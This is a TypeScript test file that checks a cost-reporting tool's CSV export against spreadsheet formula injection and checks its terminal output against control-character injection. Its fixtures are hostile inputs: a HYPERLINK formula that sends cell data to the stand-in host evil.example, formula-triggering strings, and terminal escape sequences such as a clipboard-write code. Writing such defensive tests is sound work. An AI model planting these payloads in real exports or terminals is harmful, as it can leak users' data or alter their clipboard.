/**
 * CSV cells that a spreadsheet would run as a formula (issue 19, item 3):
 * in `cost --csv` and `cost --events --csv`, a text cell starting with `=`,
 * `+`, `-`, `@`, TAB or CR gets a leading `'` (OWASP's advice); a number,
 * a negative one too, is written as it is. On a terminal, control
 * characters are shown escaped, then the same guard applies.
 *
 * Runs under `deno test -A` and `bun test`.
 */
import { describe, it } from "node:test";
import assert from "node:assert/strict";
import type { CostOptions } from "../../lib/cost/run_types.ts";
import type { EventRow } from "../../lib/cost/events.ts";
import type { ReportRow } from "../../lib/cost/report.ts";
import { costCsv } from "../../lib/render/cost.ts";
import { csvLine } from "../../lib/render/events.ts";
import { COST_OPTIONS } from "../helpers/cost_options.ts";

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';

function event(over: Partial<EventRow> = {}): EventRow {
  return {
    eventId: "s:1",
    time: "2026-11-01T09:30:00.000Z",
    host: "h",
    home: null,
    sessionId: "s",
    parent: null,
    cwd: "/p",
    model: "m",
    provider: "p",
    inputTokens: 1,
    outputTokens: 2,
    cacheReadTokens: 3,
    cacheWriteTokens: 4,
    costUsd: 0.25,
    unpricedTokens: 0,
    ...over,
  };
}

const OPTIONS: CostOptions = { ...COST_OPTIONS, all: true, by: ["project", "model"], csv: true };

function reportRow(key: string, over: Partial<ReportRow> = {}): ReportRow {
  return {
    key,
    costUsd: 0.41,
    inputTokens: 1200,
    outputTokens: 300,
    cacheReadTokens: 0,
    cacheWriteTokens: 0,
    unpricedTokens: 0,
    sessions: 1,
    ...over,
  };
}

describe("CSV: formula guard in events", () => {
  it("a text cell starting with = + - @ TAB or CR gets a leading '", () => {
    const line = csvLine(
      event({
        eventId: "@SUM(1):1",
        host: "-2+3",
        sessionId: "@SUM(1)",
        cwd: HYPERLINK,
        model: "+cmd",
        provider: "\t=1+1",
        home: "\r=1",
      }),
      false,
    );
    assert.equal(
      line,
      `'@SUM(1):1,2026-11-01T09:30:00.000Z,'-2+3,"'\r=1",'@SUM(1),,` +
        `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+cmd,'\t=1+1,1,2,3,4,0.25,0\n`,
    );
  });

  it("numbers stay numbers, negative ones too", () => {
    const line = csvLine(event({ inputTokens: -3, costUsd: -0.5, unpricedTokens: -1 }), false);
    assert.equal(line, "s:1,2026-11-01T09:30:00.000Z,h,,s,,/p,m,p,-3,2,3,4,-0.5,-1\n");
  });

  it("a cell that only holds such a character inside is kept as it is", () => {
    const line = csvLine(event({ cwd: "/a=b", model: "m-1", provider: "x@y" }), false);
    assert.equal(line, "s:1,2026-11-01T09:30:00.000Z,h,,s,,/a=b,m-1,x@y,1,2,3,4,0.25,0\n");
  });

  it("on a terminal: controls shown escaped, then the guard", () => {
    const line = csvLine(event({ cwd: "\t=1\x1b[2J", model: "\x1b]52;c;eA==\x07" }), true);
    assert.equal(
      line,
      "s:1,2026-11-01T09:30:00.000Z,h,,s,,'=1␛[2J,␛]52;c;eA==␇,p,1,2,3,4,0.25,0\n",
    );
  });
});

describe("CSV: formula guard in cost --csv", () => {
  it("keys that are text get a leading '; numbers, negative ones too, do not", () => {
    const rows = [
      reportRow(HYPERLINK, { children: [reportRow("+cmd", { costUsd: -0.02 })] }),
      reportRow("/src/app", { children: [reportRow("-2+3"), reportRow("@SUM(1)")] }),
    ];
    assert.equal(
      costCsv(rows, OPTIONS, false),
      "project,model,costUsd,inputTokens,outputTokens,cacheReadTokens,cacheWriteTokens,unpricedTokens,sessions\n" +
        `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+cmd,-0.02,1200,300,0,0,0,1\n` +
        "/src/app,'-2+3,0.41,1200,300,0,0,0,1\n" +
        "/src/app,'@SUM(1),0.41,1200,300,0,0,0,1\n",
    );
  });

  it("writes a tiny or a large sum of money as a plain decimal, not in exponent form", () => {
    const rows = [reportRow("a", { costUsd: 100 / 1e9 }), reportRow("b", { costUsd: 2e-8 })];
    const cells = costCsv(rows, { ...OPTIONS, by: ["project"] }, false).split("\n").slice(1, 3)
      .map((line) => line.split(",")[1]);
    assert.deepEqual(cells, ["0.0000001", "0.00000002"]);
  });

  it("on a terminal: controls shown escaped, then the guard", () => {
    const rows = [reportRow("\r\n@x\x07", { children: [reportRow("m\x1b[31m")] })];
    assert.equal(
      costCsv(rows, OPTIONS, true).split("\n")[1],
      "'@x␇,m␛[31m,0.41,1200,300,0,0,0,1",
    );
  });
});
